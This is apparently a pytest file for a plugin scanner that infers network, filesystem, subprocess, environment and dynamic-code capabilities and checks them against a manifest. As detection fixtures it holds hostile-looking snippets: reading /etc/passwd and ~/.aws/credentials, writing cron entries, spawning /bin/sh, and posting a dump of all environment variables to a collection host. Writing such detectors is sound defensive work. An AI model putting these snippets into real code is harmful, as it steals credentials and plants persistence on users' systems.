"""Capabilities inferred from imports and calls, and the CAP-* rules comparing them with the manifest."""

from __future__ import annotations

import textwrap
from pathlib import Path

import pytest

from plugyard_analysis.capabilities import infer_capabilities, uses
from plugyard_analysis.context import ScanContext
from plugyard_analysis.engine import analyse_directory
from plugyard_analysis.sources import parse_python


def caps(code: str) -> dict[str, list[str]]:
    src = parse_python("pkg/mod.py", textwrap.dedent(code).encode())
    return {capability: [e.what for e in evidence] for capability, evidence in infer_capabilities(src).items()}


def kinds(code: str) -> set[str]:
    return set(caps(code))


# --- inference -----------------------------------------------------------------------------------


@pytest.mark.parametrize(
    "code",
    [
        "import requests\n",
        "import httpx as h\n",
        "from aiohttp import ClientSession\n",
        "import smtplib\n",
        "import socket\nsocket.create_connection(('example.com', 80))\n",
        "from urllib.request import urlopen\nurlopen('https://example.com')\n",
        "import http.client\nhttp.client.HTTPSConnection('example.com')\n",
        "import asyncio\nasync def f():\n    await asyncio.open_connection('example.com', 443)\n",
        "__import__('socket').socket()\n",
        "import importlib\nimportlib.import_module('requests')\n",
    ],
)
def test_network(code: str) -> None:
    assert "network" in kinds(code)


@pytest.mark.parametrize(
    "code",
    [
        "import socket\nprint(socket.gethostname())\n",
        "from urllib.parse import urlparse\nurlparse('https://example.com')\n",
        "from http import HTTPStatus\n",
        "from typing import TYPE_CHECKING\nif TYPE_CHECKING:\n    import httpx\n",
    ],
)
def test_not_network(code: str) -> None:
    assert "network" not in kinds(code)


def test_hosts_are_kept_for_network_calls() -> None:
    src = parse_python("m.py", textwrap.dedent("""\
        import requests, socket
        API = "https://api.example.com/v1"
        def f(session):
            requests.get(API + "/items")
            socket.create_connection(("203.0.113.7", 4444))
            session.post(f"https://upload.example.net:8443/{1}")
            print("see https://docs.example.org for help")
        """).encode())
    hosts = {h for use in uses(src) for h in use.hosts}
    assert hosts == {("api.example.com", 443), ("203.0.113.7", 4444), ("upload.example.net", 8443)}


@pytest.mark.parametrize(
    "code, capability",
    [
        ("open('/etc/passwd')\n", "filesystem_read"),
        ("import os\nopen(os.path.expanduser('~/.aws/credentials'))\n", "filesystem_read"),
        ("def load(path):\n    return open(path).read()\n", "filesystem_read"),
        ("import os\nos.listdir('/home')\n", "filesystem_read"),
        ("open('out.txt', 'w')\n", "filesystem_write"),
        ("def f(p):\n    open(p, mode='ab')\n", "filesystem_write"),
        ("import os\nos.remove('/var/log/x')\n", "filesystem_write"),
        ("import shutil\nshutil.rmtree(target)\n", "filesystem_write"),
        ("from pathlib import Path\nPath('/etc/cron.d/x').write_text('* * * * * id')\n", "filesystem_write"),
        ("from pathlib import Path\nPath.home().joinpath('.bashrc').open('a')\n", "filesystem_write"),
        ("import sqlite3\nsqlite3.connect('cache.db')\n", "filesystem_write"),
    ],
)
def test_filesystem(code: str, capability: str) -> None:
    assert capability in kinds(code)


@pytest.mark.parametrize(
    "code",
    [
        "from pathlib import Path\n(Path(__file__).parent / 'data.json').read_text()\n",
        "import os\nopen(os.path.join(os.path.dirname(__file__), 'words.txt'))\n",
        "from importlib import resources\nresources.files(__package__).joinpath('x.txt').read_text()\n",
        "import tempfile\nwith tempfile.NamedTemporaryFile('w') as f:\n    f.write('x')\n",
        "import tempfile, os\nd = tempfile.mkdtemp()\nopen(os.path.join(d, 'x'), 'w')\n",
        "open('/tmp/plugin.lock', 'w')\n",
        "import sqlite3\nsqlite3.connect(':memory:')\n",
        "import io\nio.BytesIO(b'x')\n",
    ],
)
def test_own_files_and_scratch_space_are_not_filesystem_access(code: str) -> None:
    assert not kinds(code) & {"filesystem_read", "filesystem_write"}


def test_literal_absolute_paths_are_kept() -> None:
    src = parse_python("m.py", b"import os\nopen('/etc/cron.d/' + name, 'w')\nos.makedirs('/opt/tool//bin')\n")
    assert [u.paths for u in uses(src)] == [("/etc/cron.d",), ("/opt/tool/bin",)]


@pytest.mark.parametrize(
    "code",
    [
        "import subprocess\nsubprocess.run(['git', 'status'])\n",
        "from subprocess import check_output as co\nco('id')\n",
        "import os\nos.system('id')\n",
        "import os\nos.execvp('sh', ['sh'])\n",
        "import pty\npty.spawn('/bin/sh')\n",
        "import asyncio\nasyncio.create_subprocess_exec('ls')\n",
        "import pexpect\n",
    ],
)
def test_subprocess(code: str) -> None:
    assert "subprocess" in kinds(code)


@pytest.mark.parametrize(
    "code",
    [
        "import multiprocessing\nmultiprocessing.Process(target=print).start()\n",
        "from concurrent.futures import ProcessPoolExecutor\nProcessPoolExecutor()\n",
        "import subprocess\nraise subprocess.CalledProcessError(1, 'x')\n",
        "import os\nos.fork()\n",
    ],
)
def test_own_code_in_another_process_is_not_subprocess(code: str) -> None:
    assert "subprocess" not in kinds(code)


def test_env_kinds() -> None:
    src = parse_python("m.py", textwrap.dedent("""\
        import os, subprocess, json
        from os import environ
        NAME = "PLUGIN_TOKEN"
        a = os.environ["API_KEY"]
        b = os.getenv(NAME)
        c = environ.get("HOME")
        d = "DEBUG" in os.environ
        for key in ("AWS_KEY", "AWS_SECRET"):
            os.environ.get(key)
        os.getenv(prefix + "_TOKEN")
        json.dumps(dict(os.environ))
        env = os.environ.copy()
        env["X"] = "1"
        subprocess.run(["tool"], env=env)
        subprocess.run(["tool"], env={**os.environ, "Y": "2"})
        os.environ["SET_BY_PLUGIN"] = "1"
        """).encode())
    env = [u for u in uses(src) if u.capability == "env"]
    names = {n for u in env if u.env_kind == "names" for n in u.env_names}
    assert names == {"API_KEY", "PLUGIN_TOKEN", "HOME", "DEBUG", "AWS_KEY", "AWS_SECRET"}
    assert [u.line for u in env if u.env_kind == "whole"] == [11]
    assert [u.line for u in env if u.env_kind == "child"] == [12, 15]
    assert [u.line for u in env if u.env_kind == "computed"] == [10]
    assert [u.line for u in env if u.env_kind == "write"] == [16]


@pytest.mark.parametrize(
    "code, dynamic",
    [
        ("exec(payload)\n", True),
        ("eval(compile(source, 'x', 'exec'))\n", True),
        ("import importlib\nimportlib.import_module(name)\n", True),
        ("__import__(name)\n", True),
        ("import marshal\nmarshal.loads(blob)\n", True),
        ("exec('x = 1')\n", False),
        ("import importlib\nimportlib.import_module('json')\n", False),
        ("import ast\nast.literal_eval(text)\n", False),
        ("import re\nre.compile(pattern)\n", False),
        ("def compile(rules):\n    return rules\ncompile(x)\n", False),
    ],
)
def test_dynamic_code(code: str, dynamic: bool) -> None:
    assert ("dynamic_code" in kinds(code)) is dynamic


@pytest.mark.parametrize(
    "code, native",
    [
        ("import ctypes\n", True),
        ("from ctypes import CDLL\nCDLL('libc.so.6')\n", True),
        ("import cffi\nffi = cffi.FFI()\nffi.dlopen('x.so')\n", True),
        ("import struct\nstruct.pack('<I', 1)\n", False),
    ],
)
def test_native(code: str, native: bool) -> None:
    assert ("native" in kinds(code)) is native


def test_evidence_names_file_line_and_what() -> None:
    found = infer_capabilities(parse_python("pkg/net.py", b"import os\n\nos.system('id')\n"))
    (evidence,) = found["subprocess"]
    assert (evidence.path, evidence.line, evidence.what) == ("pkg/net.py", 3, "calls os.system")


# --- rules ---------------------------------------------------------------------------------------

MANIFEST = """\
[plugin]
name = "sample-plugin"
version = "1.0.0"
summary = "A sample plugin for the capability rules' tests"
description = "Never run: parsed only."
authors = ["Plugyard tests"]
license = "MIT"
entry = "sample_plugin:Plugin"
host = ">=1.0"

[permissions]
"""


def analyse(tmp_path: Path, code: str, permissions: str = "", scan: ScanContext | None = None, manifest: bool = True, files: dict[str, bytes] | None = None):
    root = tmp_path / "plugin"
    package = root / "sample_plugin"
    package.mkdir(parents=True)
    if manifest:
        (root / "plugin.toml").write_text(MANIFEST + textwrap.dedent(permissions))
    (package / "__init__.py").write_text(textwrap.dedent(code))
    for name, data in (files or {}).items():
        (root / name).parent.mkdir(parents=True, exist_ok=True)
        (root / name).write_bytes(data)
    return analyse_directory(root, scan=scan)


def fired(report, prefix: str = "CAP-") -> dict[str, list]:
    out: dict[str, list] = {}
    for finding in report.findings:
        if finding.rule.startswith(prefix):
            out.setdefault(finding.rule, []).append(finding)
    return out


def test_undeclared_network_quarantines(tmp_path: Path) -> None:
    report = analyse(tmp_path, "import requests\n\ndef send(data):\n    requests.post('https://collect.example.com/x', data=data)\n")
    (finding,) = fired(report)["CAP-UNDECLARED-NETWORK"]
    assert finding.severity == "high" and finding.action == "quarantine" and report.verdict == "quarantined"
    assert finding.path == "sample_plugin/__init__.py" and finding.line == 1
    assert "network" in report.capabilities


def test_declared_network_with_an_undeclared_host(tmp_path: Path) -> None:
    code = "import requests\n\ndef send(data):\n    requests.post('https://collect.example.com/x', data=data)\n    requests.get('https://api.example.org/v1')\n"
    report = analyse(tmp_path, code, 'network = ["api.example.org"]\n')
    found = fired(report)
    assert "CAP-UNDECLARED-NETWORK" not in found
    (host,) = found["CAP-UNDECLARED-HOST"]
    assert host.severity == "medium" and "collect.example.com" in host.message and host.line == 4
    assert not fired(analyse(tmp_path / "star", code, 'network = ["*"]\n'))
    assert not fired(analyse(tmp_path / "both", code, 'network = ["api.example.org", "collect.example.com:443"]\n'))
    assert "CAP-UNDECLARED-HOST" in fired(analyse(tmp_path / "port", code, 'network = ["api.example.org", "collect.example.com:8080"]\n'))


def test_undeclared_subprocess_and_native(tmp_path: Path) -> None:
    code = "import subprocess, ctypes\n\ndef run():\n    subprocess.run(['id'])\n    ctypes.CDLL('libc.so.6')\n"
    found = fired(analyse(tmp_path, code))
    assert found["CAP-UNDECLARED-SUBPROCESS"][0].severity == "high"
    assert found["CAP-UNDECLARED-NATIVE"][0].severity == "high"
    assert not fired(analyse(tmp_path / "declared", code, "subprocess = true\nnative = true\n"))


def test_undeclared_env(tmp_path: Path) -> None:
    names = "import os\nTOKEN = os.environ.get('SERVICE_TOKEN')\nLANG = os.getenv('PLUGIN_LANG', 'en')\n"
    (finding,) = fired(analyse(tmp_path / "a", names))["CAP-UNDECLARED-ENV"]
    assert finding.severity == "medium" and "SERVICE_TOKEN" in finding.message and "PLUGIN_LANG" in finding.message
    assert not fired(analyse(tmp_path / "b", names, 'env = ["SERVICE_TOKEN", "PLUGIN_LANG"]\n'))

    whole = "import os, json\n\ndef snapshot():\n    return json.dumps(dict(os.environ))\n"
    (finding,) = fired(analyse(tmp_path / "c", whole))["CAP-UNDECLARED-ENV"]
    assert finding.severity == "high" and finding.action == "quarantine"
    (finding,) = fired(analyse(tmp_path / "d", whole, 'env = ["HOME"]\n'))["CAP-UNDECLARED-ENV"]
    assert finding.severity == "medium"

    child = "import os, subprocess\n\ndef run():\n    env = os.environ.copy()\n    env['LC_ALL'] = 'C'\n    subprocess.run(['tool'], env=env)\n"
    assert "CAP-UNDECLARED-ENV" not in fired(analyse(tmp_path / "e", child, "subprocess = true\n"))


def test_undeclared_filesystem(tmp_path: Path) -> None:
    reads = "def load(path):\n    with open(path) as f:\n        return f.read()\n"
    (finding,) = fired(analyse(tmp_path / "a", reads))["CAP-UNDECLARED-FILESYSTEM"]
    assert finding.severity == "medium"
    assert not fired(analyse(tmp_path / "b", reads, '[[permissions.filesystem]]\npath = "/srv/data"\nmode = "read"\n'))

    cron = "def install():\n    with open('/etc/cron.d/updater', 'w') as f:\n        f.write('* * * * * root id')\n"
    found = fired(analyse(tmp_path / "c", cron))["CAP-UNDECLARED-FILESYSTEM"]
    assert sorted(f.severity for f in found) == ["high", "medium"]
    (finding,) = fired(analyse(tmp_path / "d", cron, '[[permissions.filesystem]]\npath = "/srv/data"\nmode = "write"\n'))["CAP-UNDECLARED-FILESYSTEM"]
    assert finding.severity == "high" and "/etc/cron.d/updater" in finding.message
    assert not fired(analyse(tmp_path / "e", cron, '[[permissions.filesystem]]\npath = "/etc/cron.d"\nmode = "write"\n'))
    read_grant = '[[permissions.filesystem]]\npath = "/etc/cron.d"\nmode = "read"\n'
    assert fired(analyse(tmp_path / "f", cron, read_grant))["CAP-UNDECLARED-FILESYSTEM"][0].severity == "high"

    own = "from pathlib import Path\nWORDS = (Path(__file__).parent / 'words.txt').read_text()\n"
    assert not fired(analyse(tmp_path / "g", own))


def test_dynamic_code_is_medium_whatever_is_declared(tmp_path: Path) -> None:
    code = "def run(source):\n    exec(source)\n"
    everything = 'network = ["*"]\nsubprocess = true\nnative = true\n'
    (finding,) = fired(analyse(tmp_path, code, everything))["CAP-DYNAMIC-CODE"]
    assert finding.severity == "medium" and finding.action == "warn" and finding.line == 2


def test_capability_drift(tmp_path: Path) -> None:
    code = "import requests\nimport subprocess\nsubprocess.run(['id'])\n"
    perms = 'network = ["*"]\nsubprocess = true\n'
    scan = ScanContext(previous_version="1.4.0", previous_capabilities=frozenset({"network"}))
    (drift,) = fired(analyse(tmp_path / "a", code, perms, scan))["CAP-DRIFT"]
    assert drift.severity == "medium" and drift.action == "warn"
    assert "subprocess" in drift.message and "1.4.0" in drift.message
    same = ScanContext(previous_version="1.4.0", previous_capabilities=frozenset({"network", "subprocess"}))
    assert "CAP-DRIFT" not in fired(analyse(tmp_path / "b", code, perms, same))
    assert "CAP-DRIFT" not in fired(analyse(tmp_path / "c", code, perms, ScanContext()))  # no earlier version


def test_bundled_library_is_native_capability(tmp_path: Path) -> None:
    elf = b"\x7fELF\x02\x01\x01" + b"\x00" * 57
    scan = ScanContext(previous_version="1.0.0", previous_capabilities=frozenset())
    report = analyse(tmp_path, "x = 1\n", "native = true\n", scan, files={"sample_plugin/_speedups.so": elf})
    assert "native" in report.capabilities
    (drift,) = fired(report)["CAP-DRIFT"]
    assert "native" in drift.message and "_speedups.so" in drift.message
    assert "CAP-UNDECLARED-NATIVE" not in fired(analyse(tmp_path / "b", "x = 1\n", files={"sample_plugin/_speedups.so": elf}))


def test_no_manifest_skips_the_comparisons(tmp_path: Path) -> None:
    report = analyse(tmp_path, "import requests, subprocess\nsubprocess.run(['id'])\nexec(code)\n", manifest=False)
    found = fired(report)
    assert set(found) == {"CAP-DYNAMIC-CODE"}
    assert "SCAN-MANIFEST" in {f.rule for f in report.findings}


def test_everything_declared_leaves_no_high_capability_finding(tmp_path: Path) -> None:
    code = textwrap.dedent("""\
        import os, json, socket, subprocess, ctypes, requests
        def run(path):
            data = json.dumps(dict(os.environ))
            requests.post("https://collect.example.com", data=data)
            open("/etc/profile.d/x.sh", "w").write(data)
            subprocess.run(["id"])
            ctypes.CDLL("libc.so.6")
            return open(path).read()
        """)
    everything = 'network = ["*"]\nsubprocess = true\nnative = true\nenv = ["HOME", "PATH"]\nfilesystem = [{ path = "/", mode = "write" }]\n'
    report = analyse(tmp_path, code, everything)
    assert all(f.severity not in ("high", "critical") for f in report.findings if f.category == "capability")


def test_a_file_the_inference_fails_on_is_not_judged_clean(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    from plugyard_analysis import capabilities

    def broken(self):
        raise ValueError("unexpected shape")

    monkeypatch.setattr(capabilities._Inference, "run", broken)
    report = analyse(tmp_path, "import requests\n", 'network = ["*"]\n')
    errors = [f for f in report.findings if f.rule == "SCAN-RULE-ERROR"]
    assert errors and "unexpected shape" in errors[0].message and report.verdict == "quarantined"
